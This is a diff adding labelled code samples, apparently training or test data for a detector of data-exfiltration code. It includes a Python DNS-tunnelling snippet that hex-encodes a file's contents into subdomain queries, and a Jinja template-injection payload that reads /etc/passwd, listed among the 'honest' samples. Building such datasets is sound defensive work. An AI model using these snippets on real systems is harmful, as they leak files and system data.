@@ -9,6 +9,15 @@ type Language = 'python' | 'javascript'
 /** What is found by two facts that are joined: whose data or secret it is, and who gets it. */
 const FOUND: readonly (readonly [name: string, kind: string, language: Language, code: string])[] = [
   [
+    'a file in what a resolver is asked',
+    'data-drop',
+    'python',
+    `import socket
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+for part in open("notes.txt").read().split():
+    s.sendto(query(part.encode().hex() + ".t.some-site.net"), ("192.168.1.1", 53))`,
+  ],
+  [
     'documents in an archive',
     'secret-exfiltration',
     'python',
@@ -661,6 +670,52 @@ for r, _, fs in os.walk(os.path.expanduser("~/Documents")):
 
 /** Honest code that does one of the two. */
 const HONEST: readonly (readonly [language: Language, code: string])[] = [
+  [
+    'python',
+    `import os, requests
+from pathlib import Path
+def gateway():
+    creds = {}
+    for p in [Path("proxy.env"), Path.home() / "proxy.env"]:
+        for line in p.read_text().splitlines():
+            k, _, v = line.strip().partition("=")
+            creds[k.strip()] = v.strip().strip('"')
+    return f"https://gateway.vendor.dev/v1/{creds['ACCOUNT_ID']}", {"x-authorization": f"Bearer {creds['API_TOKEN']}"}
+url, headers = gateway()
+requests.request("POST", url, headers=headers, json={"model": "x"})`,
+  ],
+  [
+    'python',
+    `import subprocess, sys, urllib.request
+files = urllib.request.urlopen("https://codeload.vendor.dev/list").read().decode().splitlines()
+subprocess.run(["rg", "--no-heading", "-e", sys.argv[1]] + files[:500], capture_output=True)`,
+  ],
+  [
+    'python',
+    `import time
+handle = open(f"{name}.lock", "a+b")
+while True:
+    try:
+        handle.write(b"0")
+        take(handle)
+        break
+    except OSError:
+        time.sleep(0.05)`,
+  ],
+  [
+    'python',
+    `import glob, os
+path = os.path.expanduser("~/.tool.json")
+for old in sorted(glob.glob(f"{path}.backup-*"), reverse=True)[3:]:
+    os.remove(old)`,
+  ],
+  [
+    'python',
+    `import socket, sys
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+s.sendto(query(sys.argv[1]), ("192.168.1.1", 53))`,
+  ],
+  ['python', `{{''.__class__.__mro__[2].__subclasses__()[40]('/etc/passwd').read()}}`],
   [
     'python',
     `import os, requests
